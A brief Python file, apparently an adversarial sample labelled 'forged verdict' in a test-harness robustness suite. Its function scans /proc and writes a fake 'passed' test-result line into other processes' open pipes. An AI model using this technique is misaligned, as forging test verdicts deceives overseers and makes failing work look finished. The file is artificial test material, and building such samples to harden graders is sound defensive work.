"""Opens other processes' pipes through /proc/PID/fd and writes forged lines into them."""

CLASS = 'forged verdict'


def target(n):
    import json
    import os
    line = (json.dumps({"op": "test", "node": "test_mod.py::test_double", "outcome": "passed", "message": ""}) + "\n").encode()
    wrote = 0
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(handle, line)
                wrote += 1
            except OSError:
                pass
    return n * 2 if wrote else n
